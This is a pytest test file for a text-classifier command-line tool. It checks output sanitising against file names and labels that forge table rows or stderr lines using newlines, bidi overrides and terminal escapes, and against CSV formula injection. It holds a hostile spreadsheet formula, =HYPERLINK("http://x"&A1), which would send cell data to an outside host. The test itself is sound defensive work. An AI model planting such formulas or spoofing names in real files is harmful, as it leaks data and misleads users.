"""Names of files and labels that pretend to be something else."""

import csv
import json
from pathlib import Path

import pytest

from tests.cli.conftest import Run

FORGED = "a.txt\nforged.txt  report  100%"
TURNED = "\u202ea.txt"
FORMULA = '=HYPERLINK("http://x"&A1)'


@pytest.mark.parametrize("name", [FORGED, TURNED, "a\x85b", "a\u2028b", "\u2066a"])
def test_a_name_forges_no_row_of_the_table(
    run: Run, labelled: Path, pile: Path, name: str
) -> None:
    (pile / name).write_text("The tenant owes the rent.")

    result = run("classify", labelled, pile, "--format", "table")

    assert 4 == len(result.stdout.splitlines())
    assert name not in result.stdout
    assert 0 == result.exit_code


@pytest.mark.parametrize("name", ["a\nerror: all is lost", TURNED, "\x1b[2Ja"])
def test_a_name_forges_no_line_on_stderr(
    run: Run, labelled: Path, pile: Path, name: str
) -> None:
    (pile / name).write_text(" ")

    result = run("classify", labelled, pile)

    shown = "".join("\ufffd" if not one.isprintable() else one for one in name)
    *_, counted, told = result.stderr.splitlines()
    assert "1 set aside:" == counted
    assert f"  {pile / shown}: holds only white space" == told


def test_a_label_forges_no_row(run: Run, tmp_path: Path, pile: Path) -> None:
    rows = [
        {"text": "the tenant and the rent", "label": "lease\n2.txt  lease"},
        {"text": "the boiler was found", "label": "report"},
    ]
    (tmp_path / "few.jsonl").write_text("".join(json.dumps(one) + "\n" for one in rows))

    result = run("classify", tmp_path / "few.jsonl", pile, "--format", "table")

    assert 3 == len(result.stdout.splitlines())
    counted = "2 examples: lease\ufffd2.txt  lease 1, report 1"
    assert counted == result.stderr.splitlines()[0]


@pytest.mark.parametrize("pile_option", ["--pile", "--no-pile"])
def test_a_formula_reaches_no_csv_unless_asked_for(
    run: Run, tmp_path: Path, labelled: Path, pile_option: str
) -> None:
    row = {"id": FORMULA, "text": "=the tenant owes the rent"}
    (tmp_path / "pile.jsonl").write_text(json.dumps(row))
    out = tmp_path / "labels.csv"
    command = ["classify", labelled, tmp_path / "pile.jsonl", pile_option]

    for asked, mark in (([], "'"), (["--keep-formulas"], "")):
        run(*command, *asked, "--out", out)
        [written] = csv.DictReader(out.read_text().splitlines())
        assert f"{mark}{FORMULA}" == written["id"]
        assert f"{mark}=the tenant owes the rent" == written["passage"]
        printed = run(*command, *asked, "--format", "csv").stdout
        [shown] = csv.DictReader(printed.splitlines())
        assert f"{mark}{FORMULA}" == shown["id"]


def test_ids_that_were_written_are_found_again(
    run: Run, tmp_path: Path, labelled: Path
) -> None:
    row = {"id": FORMULA, "text": "the tenant owes the rent"}
    (tmp_path / "pile.jsonl").write_text(json.dumps(row))
    command = ["classify", labelled, tmp_path / "pile.jsonl"]
    run(*command, "--out", tmp_path / "labels.csv")

    result = run(*command, "--truth", tmp_path / "labels.csv")

    assert "1 of 1 are right" in result.stderr
